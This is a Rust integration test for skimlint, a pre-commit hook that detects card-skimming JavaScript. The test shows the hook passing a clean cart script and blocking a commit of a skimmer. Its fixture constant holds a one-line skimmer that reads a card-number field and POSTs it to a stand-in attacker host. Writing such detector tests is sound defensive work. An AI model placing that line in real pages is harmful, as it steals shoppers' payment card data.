//! The pre-commit hook, with the real pre-commit tool: installed with pip into a virtual
//! environment (kept under the cargo target folder between runs), pointed at this repository's
//! `.pre-commit-hooks.yaml`, and shown to block a commit that adds a skimmer and to let a clean
//! commit through. Skipped, with a message, only when pip cannot reach the package registry.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const SKIMMER_JS: &str = "fetch(\"https://evil.example/c\", {method: \"POST\", body: document.querySelector(\"#cc_number\").value});\n";

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// pre-commit in a virtual environment, or `None` when the registry is unreachable.
fn pre_commit() -> Option<PathBuf> {
    let venv = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("pre-commit-venv");
    let exe = venv.join("bin").join("pre-commit");
    let works = |exe: &Path| {
        Command::new(exe)
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success())
    };
    if works(&exe) {
        return Some(exe);
    }
    let out = Command::new("python3")
        .args(["-m", "venv", "--clear"])
        .arg(&venv)
        .output()
        .expect("python3 is needed to install pre-commit");
    assert!(
        out.status.success(),
        "python3 -m venv failed: {}",
        text(&out)
    );
    let out = Command::new(venv.join("bin").join("python"))
        .args([
            "-m",
            "pip",
            "install",
            "--quiet",
            "--disable-pip-version-check",
            "--retries",
            "1",
            "--timeout",
            "20",
            "pre-commit",
        ])
        .output()
        .expect("pip runs");
    if !out.status.success() {
        let log = text(&out);
        let offline = [
            "NewConnectionError",
            "Max retries exceeded",
            "Temporary failure in name resolution",
            "Network is unreachable",
            "ConnectTimeoutError",
            "ReadTimeoutError",
            "No matching distribution found",
            "Could not find a version",
            "ProxyError",
            "SSLError",
        ];
        if offline.iter().any(|m| log.contains(m)) {
            eprintln!(
                "SKIPPED pre-commit test: pip cannot reach the package registry to install \
                 pre-commit:\n{log}"
            );
            return None;
        }
        panic!("pip install pre-commit failed:\n{log}");
    }
    assert!(works(&exe), "pre-commit installed but does not run");
    Some(exe)
}

/// A command with a clean git environment (no user or system configuration).
fn cmd(program: impl AsRef<std::ffi::OsStr>, dir: &Path, env: &Env) -> Command {
    let mut c = Command::new(program);
    c.current_dir(dir)
        .env("PATH", &env.path)
        .env("PRE_COMMIT_HOME", &env.cache)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("NO_COLOR", "1")
        .env_remove("GIT_DIR")
        .env_remove("GIT_INDEX_FILE")
        .env_remove("GIT_WORK_TREE");
    c
}

struct Env {
    path: std::ffi::OsString,
    cache: PathBuf,
}

fn ok(c: &mut Command) -> String {
    let out = c.output().unwrap();
    assert!(out.status.success(), "{c:?} failed:\n{}", text(&out));
    text(&out)
}

fn git_repo(dir: &Path, env: &Env) {
    std::fs::create_dir_all(dir).unwrap();
    ok(cmd("git", dir, env).args(["init", "-q", "-b", "main"]));
    ok(cmd("git", dir, env).args(["config", "user.name", "Test"]));
    ok(cmd("git", dir, env).args(["config", "user.email", "test@example.com"]));
    ok(cmd("git", dir, env).args(["config", "commit.gpgsign", "false"]));
}

#[test]
fn pre_commit_hook_blocks_a_skimmer_and_lets_a_clean_commit_through() {
    let Some(pre_commit) = pre_commit() else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    // `skimlint` on PATH is the binary cargo just built.
    let bin = tmp.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    std::os::unix::fs::symlink(env!("CARGO_BIN_EXE_skimlint"), bin.join("skimlint")).unwrap();
    let mut path = std::ffi::OsString::from(&bin);
    path.push(":");
    path.push(std::env::var_os("PATH").unwrap_or_default());
    let env = Env {
        path,
        cache: tmp.path().join("cache"),
    };
    let manifest = Path::new(env!("CARGO_MANIFEST_DIR")).join(".pre-commit-hooks.yaml");
    ok(cmd(&pre_commit, tmp.path(), &env)
        .arg("validate-manifest")
        .arg(&manifest));
    // The README's `.pre-commit-config.yaml` examples are valid configurations.
    let readme =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
    let mut examples = 0;
    for (i, block) in readme.split("```yaml\n").skip(1).enumerate() {
        let block = &block[..block.find("```").unwrap()];
        if !block.contains("repos:") {
            continue;
        }
        let file = tmp.path().join(format!("readme-config-{i}.yaml"));
        std::fs::write(&file, block).unwrap();
        ok(cmd(&pre_commit, tmp.path(), &env)
            .arg("validate-config")
            .arg(&file));
        examples += 1;
    }
    assert_eq!(examples, 2, "README's pre-commit configuration examples");

    // A repository holding this checkout's hook manifest, as `repo:` + `rev:` would fetch it.
    let hooks = tmp.path().join("hooks");
    git_repo(&hooks, &env);
    std::fs::copy(&manifest, hooks.join(".pre-commit-hooks.yaml")).unwrap();
    ok(cmd("git", &hooks, &env).args(["add", "."]));
    ok(cmd("git", &hooks, &env).args(["commit", "-q", "-m", "hooks"]));
    let rev = ok(cmd("git", &hooks, &env).args(["rev-parse", "HEAD"]));

    let shop = tmp.path().join("shop");
    git_repo(&shop, &env);
    // `language: system` runs the skimlint on PATH instead of building it with cargo (minutes);
    // everything else (entry, arguments, file selection) comes from the manifest.
    std::fs::write(
        shop.join(".pre-commit-config.yaml"),
        format!(
            "repos:\n  - repo: {}\n    rev: {}\n    hooks:\n      - id: skimlint\n        language: system\n",
            hooks.display(),
            rev.trim()
        ),
    )
    .unwrap();
    ok(cmd(&pre_commit, &shop, &env).arg("install"));

    std::fs::create_dir_all(shop.join("web/js")).unwrap();
    std::fs::write(
        shop.join("web/js/cart.js"),
        "document.querySelector('#add').addEventListener('click', () => fetch('/cart/add'));\n",
    )
    .unwrap();
    ok(cmd("git", &shop, &env).args(["add", "."]));
    let out = ok(cmd("git", &shop, &env).args(["commit", "-m", "clean cart script"]));
    assert!(out.contains("skimlint") && out.contains("Passed"), "{out}");
    let head = ok(cmd("git", &shop, &env).args(["rev-parse", "HEAD"]));

    std::fs::write(shop.join("web/js/checkout.js"), SKIMMER_JS).unwrap();
    ok(cmd("git", &shop, &env).args(["add", "web/js/checkout.js"]));
    let out = cmd("git", &shop, &env)
        .args(["commit", "-m", "skimmer"])
        .output()
        .unwrap();
    let log = text(&out);
    assert!(!out.status.success(), "the skimmer was committed:\n{log}");
    assert!(log.contains("Failed"), "{log}");
    assert!(
        log.contains("web/js/checkout.js:1:6: error[js/card-data-exfiltration]"),
        "{log}"
    );
    assert_eq!(
        ok(cmd("git", &shop, &env).args(["rev-parse", "HEAD"])),
        head,
        "HEAD moved"
    );

    // The `repo: local` form from the README, with the installed binary.
    std::fs::write(
        shop.join(".pre-commit-config.yaml"),
        "repos:\n  - repo: local\n    hooks:\n      - id: skimlint\n        name: skimlint\n        entry: skimlint check --format concise\n        language: system\n        types: [file]\n",
    )
    .unwrap();
    let out = cmd(&pre_commit, &shop, &env)
        .args(["run", "--files", "web/js/checkout.js", "web/js/cart.js"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(text(&out).contains("error[js/card-data-exfiltration]"));
}
